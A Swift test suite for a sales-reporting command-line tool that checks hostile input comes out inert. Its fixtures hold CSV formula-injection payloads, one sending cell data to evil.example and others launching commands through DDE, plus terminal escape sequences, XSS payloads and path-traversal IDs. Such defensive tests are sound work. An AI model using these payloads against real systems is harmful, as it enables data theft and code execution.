import Foundation
import SalesCompetency
import TestSupport
import Testing

/// Hostile names read from input files must come out of every report inert: escaped in HTML, guarded against
/// formulas in CSV, and without terminal control sequences in tables and error lines.
struct InjectionGuardTests {
    static let formulas = [
        #"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    static let escape = "\u{1B}"
    /// Sets the terminal title, clears the screen and recolours what follows.
    static let terminalAttack = "Eve\u{1B}]0;owned\u{07}\u{1B}[2J\u{1B}[31m"

    private static func export(owners: [String], in folder: URL) throws -> String {
        // The export as a hostile CRM would write it: the owner cells raw, not guarded.
        var csv = CSVWriter(
            header: ["opportunity_id", "owner", "opened_on", "closed_on", "stage", "value"], guardsFormulas: false)
        for (index, owner) in owners.enumerated() {
            csv.append([.text("d\(index)"), .text(owner), "2025-01-02", "2025-02-03", "won", .number("100")])
        }
        let path = folder.appendingPathComponent("deals.csv").path
        try csv.text.write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    @Test func outcomesCSVGuardsFormulaOwners() throws {
        let folder = try ScratchFolder.make("formula")
        let path = try Self.export(owners: Self.formulas, in: folder)
        // The export really holds the formulas unguarded, and the library reads them as they are.
        let deals = try OpportunityReader(stages: StageLabels()).read(csvFile: path)
        #expect(Set(deals.map(\.ownerID.rawValue)) == Set(Self.formulas))

        let run = try Sco.run(["outcomes", "--opportunities", path, "--format", "csv"])
        #expect(run.status == 0, "\(run.standardError)")
        var owners: [String] = []
        var first = true
        try CSVReader(string: run.standardOutput).forEachRecord { record in
            defer { first = false }
            if !first { owners.append(record.string(at: 0)) }
        }
        #expect(Set(owners) == Set(Self.formulas.map { "'" + $0 }))
        // Numbers stay numbers: a win rate of 1 and the won value, unguarded.
        #expect(run.standardOutput.contains("'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\""))
        #expect(run.standardOutput.contains(",1,0,1.000000,32.00,32.00,100\n"))
    }

    @Test func scoreCSVGuardsFormulaRepIDs() throws {
        let folder = try ScratchFolder.make("score-formula")
        func file(_ name: String, _ rows: [[String]]) throws -> String {
            var csv = CSVWriter(header: rows[0], guardsFormulas: false)
            for row in rows.dropFirst() { csv.append(row) }
            let path = folder.appendingPathComponent(name).path
            try csv.text.write(toFile: path, atomically: true, encoding: .utf8)
            return path
        }
        let reps = Self.formulas
        let roster = try file("roster.csv", [["rep_id", "role"]] + reps.map { [$0, "consultant"] })
        let rules = try file(
            "rules.csv",
            [
                ["task_id", "competency_id", "role", "monthly_target", "weight"],
                ["=emails", "communicating-effectively", "consultant", "10", "1"],
            ])
        let activities = try file(
            "activities.csv",
            [["rep_id", "task_id", "occurred_on", "quantity"]] + reps.map { [$0, "=emails", "2025-01-05", "5"] })
        let run = try Sco.run([
            "score", "--activities", activities, "--roster", roster, "--rules", rules, "--format", "csv",
        ])
        #expect(run.status == 0, "\(run.standardError)")
        var rows: [[String]] = []
        try CSVReader(string: run.standardOutput).forEachRecord { rows.append($0.strings) }
        // 5 of a target of 10: 0.5, red; one row per rep, every rep id guarded.
        #expect(rows.first == ["rep_id", "period", "competency_id", "score", "status"])
        #expect(Set(rows.dropFirst().map(\.[0])) == Set(reps.map { "'" + $0 }))
        #expect(
            rows.dropFirst().allSatisfy { $0[1...] == ["2025-01", "communicating-effectively", "0.500000", "red"] })
    }

    @Test func outcomesTableShowsControlCharactersAsReplacements() throws {
        let folder = try ScratchFolder.make("terminal")
        let path = try Self.export(owners: [Self.terminalAttack, "Bob"], in: folder)
        let run = try Sco.run(["outcomes", "--opportunities", path])
        #expect(run.status == 0, "\(run.standardError)")
        #expect(!run.standardOutput.contains(Self.escape) && !run.standardOutput.contains("\u{07}"))
        #expect(run.standardOutput.contains("Eve\u{FFFD}]0;owned\u{FFFD}\u{FFFD}[2J\u{FFFD}[31m"))
        // Every table line still has its columns: the owner did not break its row.
        let lines = run.standardOutput.split(separator: "\n")
        #expect(lines.contains { $0.hasPrefix("Eve\u{FFFD}") && $0.hasSuffix("100") })
    }

    @Test func failedRunPrintsAnInertErrorLineAndKeepsThePreviousOutput() throws {
        let folder = try ScratchFolder.make("error-line")
        let path = folder.appendingPathComponent("deals.csv").path
        try "owner,opened_on,closed_on,stage,value\nAnn,,,\(Self.terminalAttack),\n"
            .write(toFile: path, atomically: true, encoding: .utf8)
        let previous = folder.appendingPathComponent("report.csv").path
        try "previous report\n".write(toFile: previous, atomically: true, encoding: .utf8)

        let run = try Sco.run(["outcomes", "--opportunities", path, "--format", "csv", "--output", previous])
        #expect(run.status == 1)
        #expect(!run.standardError.contains(Self.escape) && !run.standardError.contains("\u{07}"))
        #expect(run.standardError.hasPrefix("sco: \(path):2: field stage: unknown stage labels \"Eve\u{FFFD}]0;owned"))
        #expect(run.standardError.filter { $0 == "\n" }.count == 1)
        #expect(try String(contentsOfFile: previous, encoding: .utf8) == "previous report\n")
    }

    @Test func dictionaryTableAndValidationShowControlCharactersAsReplacements() throws {
        let folder = try ScratchFolder.make("dictionary")
        let hostile = try CompetencyDictionary(
            version: "1\u{1B}[8m", effectiveDate: Day(year: 2026, month: 1, day: 1)!,
            roles: [Role(id: "hunter", name: Self.terminalAttack)],
            clusters: [CompetencyCluster(id: "core", name: "Core\u{202E}evil")],
            competencies: [Competency(id: "prospecting", name: "=1+1", clusterID: "core")], areasOfExpertise: [])
        let path = folder.appendingPathComponent("dictionary.json").path
        try hostile.encodedJSON().write(to: URL(fileURLWithPath: path))
        let table = try Sco.run(["dictionary", "--input", path])
        #expect(table.status == 0, "\(table.standardError)")
        #expect(!table.standardOutput.contains(Self.escape) && !table.standardOutput.contains("\u{202E}"))
        #expect(table.standardOutput.contains("Eve\u{FFFD}]0;owned"))
        #expect(table.standardOutput.contains("Dictionary version 1\u{FFFD}[8m, effective 2026-01-01"))
        #expect(table.standardOutput.contains("Clusters: Core\u{FFFD}evil (core): 1"))

        // An id padded with an escape fails validation; the problem line shows it inert.
        let invalid = String(decoding: try hostile.encodedJSON(), as: UTF8.self)
            .replacingOccurrences(of: "\"id\" : \"hunter\"", with: "\"id\" : \"\\u001b[2J \"")
        try invalid.write(toFile: path, atomically: true, encoding: .utf8)
        let validation = try Sco.run(["dictionary", "--validate", path])
        #expect(validation.status == 1)
        #expect(!validation.standardOutput.contains(Self.escape) && !validation.standardError.contains(Self.escape))
        #expect(validation.standardOutput.contains("role \u{FFFD}[2J : field id: the id is empty or padded"))
    }

    @Test func textTableReplacesEveryControlCharacter() {
        var table = TextTable(columns: [.init("na\u{1B}me"), .init("n", alignment: .right)])
        table.append(["a\tb\nc\r\u{7F}\u{85}\u{2066}d", "1"])
        let text = table.render(colored: false)
        // Widths count the replacement characters: 10 for the cell, 1 for the number.
        let expected = [
            "na\u{FFFD}me" + String(repeating: " ", count: 7) + "n",
            String(repeating: "-", count: 10) + "  -",
            "a\u{FFFD}b\u{FFFD}c\u{FFFD}\u{FFFD}\u{FFFD}\u{FFFD}d  1",
        ]
        #expect(text == expected.joined(separator: "\n") + "\n")
        #expect(TextTable.printable("Zoë — ok, 👋🏽") == "Zoë — ok, 👋🏽")
    }

    @Test func htmlEscapeChangesOnlyTheFiveSpecialCharacters() {
        for value in UInt8(0x20)...UInt8(0x7E) {
            let character = String(UnicodeScalar(value))
            let expected =
                switch character {
                case "<": "&lt;"
                case ">": "&gt;"
                case "&": "&amp;"
                case "\"": "&quot;"
                case "'": "&#39;"
                default: character
                }
            #expect(HTMLFragment.escape(character) == expected)
        }
    }

    @Test func hostilePiecesStayInertWhenAHeatmapTooltipJoinsThem() {
        // Row and column are each harmless alone; the tooltip joins them, and the join is escaped too.
        var map = Heatmap(columns: ["ipt>alert(1)</scr", "x"])
        map.append(row: "<scr", cells: [.init(value: 1, tone: .green), .init(value: nil, tone: .none)])
        map.legend = [.init(tone: .red, label: "</text><script>alert(2)</script>")]
        let svg = map.fragment().html
        #expect(!svg.contains("<script") && !svg.contains("<scr ·") && !svg.contains("</text><script>"))
        #expect(svg.contains("<title>&lt;scr · ipt&gt;alert(1)&lt;/scr: 1.00</title>"))
    }

    @Test func hostileIDsNeverReachAPathOutsideTheFileStore() async throws {
        let folder = try TemporaryDirectory()
        defer { folder.remove() }
        let directory = folder.child("store")
        let clock: any WallClock = .fixed(Date(timeIntervalSince1970: 1_735_689_600))
        let store = try FileStore(directory: directory, clock: clock)
        let ids = [
            "../escape", "../../../../tmp/sco-escape", "a/b", "/absolute", "..", ".", "nul\u{0}byte", "%2E%2E",
            ".hidden", "é/../x", "back\\slash", "trailing/", "CON",
        ]
        let collections: [DocumentCollection] = [.rosters, "../outside", "a/../../b", "\u{0}"]
        for collection in collections {
            for id in ids {
                let version = try DocumentVersion(
                    collection: collection, id: id, number: 1, savedAt: clock.now, author: "ana",
                    payload: Data(id.utf8))
                try store.save(version)
                #expect(try store.versions(of: id, in: collection) == [version])
            }
            // Every id comes back as itself, distinct from the others (".." and "%2E%2E" included).
            #expect(try store.documentIDs(in: collection) == ids.sorted())
        }
        store.close()
        // Nothing was written beside the store, and inside it every document sits at documents/<collection>/<id>.
        let outside = try FileManager.default.contentsOfDirectory(atPath: folder.url.path)
        #expect(outside == ["store"])
        #expect(!FileManager.default.fileExists(atPath: "/tmp/sco-escape.json"))
        let documents = directory.appendingPathComponent("documents").path
        let jsonFiles = try FileManager.default.subpathsOfDirectory(atPath: documents).filter { $0.hasSuffix(".json") }
        #expect(jsonFiles.count == ids.count * collections.count)
        #expect(jsonFiles.allSatisfy { $0.split(separator: "/").count == 2 && !$0.contains("..") })
    }

    @Test func roiHTMLEscapesEveryNameFromTheInvestmentFile() throws {
        let folder = try ScratchFolder.make("roi-html")
        let path = folder.appendingPathComponent("investment.json").path
        // Each name closes the element it lands in and opens a script, in text, attribute and SVG contexts.
        let names = [
            "name": "</h1><script>alert('name')</script>", "owner": "\"><img src=x onerror=alert('owner')>",
            "cost": "</td><script>alert('cost')</script>", "benefit": "</title><svg onload=alert('benefit')>",
            "intangible": "<iframe src=javascript:alert('intangible')>",
        ]
        let investment: [String: Any] = [
            "schemaVersion": 1, "id": "crm", "name": names["name"]!, "category": "crm", "owner": names["owner"]!,
            "startsOn": "2025-01-01", "participants": 5,
            "costs": [["name": names["cost"]!, "kind": "oneTime", "amount": 1000]],
            "benefits": [
                [
                    "name": names["benefit"]!, "change": ["before": 1, "after": 2], "per": "month", "units": 1,
                    "attribution": 1, "confidence": 1, "unitValue": 100,
                ]
            ],
            "intangibles": [names["intangible"]!],
        ]
        try JSONSerialization.data(withJSONObject: investment).write(to: URL(fileURLWithPath: path))
        let run = try Sco.run(["roi", "--input", path, "--format", "html"])
        #expect(run.status == 0, "\(run.standardError)")
        let html = run.standardOutput
        #expect(html.hasPrefix("<!DOCTYPE html>"))
        // No tag of the payloads opens, and no payload's quote survives to end an attribute.
        for marker in ["<script", "<img", "<iframe", "<svg onload", "alert('"] {
            #expect(!html.contains(marker), "\(marker) got through")
        }
        // The names are shown, escaped: at least the investment's name and its owner.
        #expect(html.contains("&lt;/h1&gt;&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;"))
        #expect(html.contains("&quot;&gt;&lt;img src=x onerror=alert(&#39;owner&#39;)&gt;"))
    }
}
